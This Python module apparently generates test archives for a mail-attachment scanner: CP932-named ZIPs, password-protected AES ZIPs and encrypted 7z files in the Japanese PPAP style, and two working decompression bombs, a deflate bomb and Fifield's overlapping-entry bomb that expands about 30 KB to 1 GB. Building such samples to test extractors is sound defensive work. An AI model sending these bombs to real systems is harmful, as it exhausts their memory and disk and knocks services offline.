"""Archives as Japanese senders and attackers make them.

- CP932 names: Japanese Windows' built-in ZIP writes names in CP932 without the UTF-8
  flag; Python's zipfile would write UTF-8, so the name encoding is overridden per entry.
- PPAP: "password-protected ZIP, password in the next mail", the habit the national
  government asked municipalities to drop; AES (pyzipper) and encrypted 7z (py7zr).
- Bombs: a deflate bomb (one member of zeros, ratio about 1000:1) and an overlapping-entry
  bomb (every central-directory entry points at the same local file), small on disk.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

MiB = 1024 * 1024
_DATE = (2025, 4, 1, 9, 0, 0)


class _Cp932Info(zipfile.ZipInfo):
    """A ZipInfo whose name is written in CP932 with the UTF-8 flag clear."""

    def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # the stdlib's hook name
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def zip_cp932(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = _Cp932Info(name, date_time=_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def zip_plain(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def zip_aes(members: Iterable[tuple[str, bytes]], password: bytes) -> bytes:
    """An AES-256 encrypted ZIP (WinZip AE-2), what PPAP tools produce today."""
    import pyzipper

    out = io.BytesIO()
    with pyzipper.AESZipFile(out, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password)
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def seven_zip(members: Iterable[tuple[str, bytes]], password: str | None = None) -> bytes:
    """A 7z archive; with a password, names and data are encrypted (header encryption)."""
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password=password,
                            header_encryption=password is not None) as archive:
        for name, data in members:
            archive.writef(io.BytesIO(data), name)
    return out.getvalue()


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """Raw deflate of `size` zero bytes and their CRC-32, built a MiB at a time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * MiB
    parts: list[bytes] = []
    crc = 0
    for _ in range(size // MiB):
        parts.append(packer.compress(block))
        crc = zlib.crc32(block, crc)
    parts.append(packer.flush())
    return b"".join(parts), crc


def _local_header(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5A21, crc, packed, size,
                       len(name), 0) + name


def _central_entry(name: bytes, crc: int, packed: int, size: int, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5A21, crc,
                       packed, size, len(name), 0, 0, 0, 0, 0, offset) + name


def _end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)


def deflate_bomb(unpacked: int = 512 * MiB, name: str = "data.bin") -> bytes:
    """One member of `unpacked` zero bytes (a whole number of MiB); ~1/1000 on disk."""
    packed, crc = _zeros_deflated(unpacked)
    raw = name.encode("ascii")
    local = _local_header(raw, crc, len(packed), unpacked) + packed
    central = _central_entry(raw, crc, len(packed), unpacked, 0)
    return local + central + _end_record(1, len(central), len(local))


def overlapping_bomb(files: int = 250, kernel: int = 4 * MiB) -> bytes:
    """David Fifield's overlapping-file bomb: every file's data runs through all later ones.

    File i's deflate stream is a stored block that "quotes" the local header of file i+1,
    followed by file i+1's stream, and so on down to one shared kernel of zeros. Each entry
    is a valid ZIP member with matching names, so naive extractors unpack about
    files x kernel bytes (1 GB by default) from about 30 KB.
    """
    packed, _ = _zeros_deflated(kernel)
    names = [f"f{i:04d}.bin".encode() for i in range(files)]
    headers: list[bytes] = [b""] * files
    sizes = [0] * files
    lengths = [0] * files
    prefix = b""  # the local headers of files i+1 .. n, as file i's data begins with them
    for i in reversed(range(files)):
        quote_total = sum(5 + len(headers[j]) for j in range(i + 1, files))
        lengths[i] = quote_total + len(packed)
        sizes[i] = len(prefix) + kernel
        crc = _zeros_crc(kernel, zlib.crc32(prefix))
        headers[i] = _local_header(names[i], crc, lengths[i], sizes[i])
        prefix = headers[i] + prefix
    body = bytearray()
    offsets = []
    for i, header in enumerate(headers):
        offsets.append(len(body))
        body += header
        if i + 1 < files:
            nxt = len(headers[i + 1])
            body += struct.pack("<BHH", 0, nxt, nxt ^ 0xFFFF)  # stored block, not final
    body += packed
    central = bytearray()
    for i, header in enumerate(headers):
        crc = struct.unpack_from("<I", header, 14)[0]
        central += _central_entry(names[i], crc, lengths[i], sizes[i], offsets[i])
    return bytes(body + central + _end_record(files, len(central), len(body)))


def _zeros_crc(size: int, crc: int) -> int:
    block = b"\0" * MiB
    for _ in range(size // MiB):
        crc = zlib.crc32(block, crc)
    return crc
